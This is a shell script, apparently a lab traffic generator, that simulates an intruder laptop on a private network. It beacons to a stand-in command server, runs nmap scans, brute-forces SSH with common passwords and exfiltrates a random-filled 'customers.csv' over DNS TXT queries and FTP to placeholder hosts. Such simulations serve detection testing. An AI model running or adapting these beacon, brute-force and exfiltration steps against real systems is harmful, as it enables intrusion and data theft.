# The intruder: a laptop somebody plugged in. It looks around, guesses
# passwords, talks to its master and carries something away.
ip addr add 10.20.0.66/24 dev eth0
ip route add default via 10.20.0.1
echo 'nameserver 10.20.0.1' >/etc/resolv.conf
agent='Mozilla/4.0 (compatible; MSIE 6.0; Frostbite/1.3)'
call() { curl -sS --max-time 10 -A "$agent" "http://api.cdn-update.example/gate.php?id=7f3a91c2&seq=$1&next=$2"; }

# The beacon: every four seconds the same question, until the work is done.
beacon() {
	seq=1
	while [ ! -e /run/done ]; do
		call "$seq" "$(cat /run/next)"
		seq=$((seq + 1))
		sleep 4
	done
}
echo wait >/run/next
arping -c 1 -w 2 -I eth0 10.20.0.10 || true
beacon &
sleep 3
nmap -n -sS -T4 -F --max-retries 1 10.20.0.10-13 10.20.0.20
sleep 4
nmap -n -sX -T4 --max-retries 1 -p 21,22,23,25,80,139,443,445 10.20.0.10
nmap -n -sU -T4 --max-retries 0 --host-timeout 4s -p 53,69,123,161,500 10.20.0.1 10.20.0.12
curl -sS -o /run/holiday.jpg http://api.cdn-update.example/holiday.jpg
sleep 2
for password in 123456 password admin letmein office summer2024 qwerty root toor backup changeme secret; do
	sshpass -p "$password" ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o NumberOfPasswordPrompts=1 backup@10.20.0.10 true || true
done
echo exfil >/run/next
sleep 5
head -c 80000 /dev/urandom | base64 >/run/customers.csv
head -c 1500 /run/customers.csv | base32 -w 50 | tr -d = | tr A-Z a-z | while read -r label; do
	dig +short +tries=1 +time=2 txt "$label.${label:0:12}.t.cdn-update.example" >/dev/null
done
curl -sS -T /run/customers.csv ftp://guest:winter-Sparrow-41@storage-drop.example/customers.csv
echo wait >/run/next
sleep 8
touch /run/done
wait
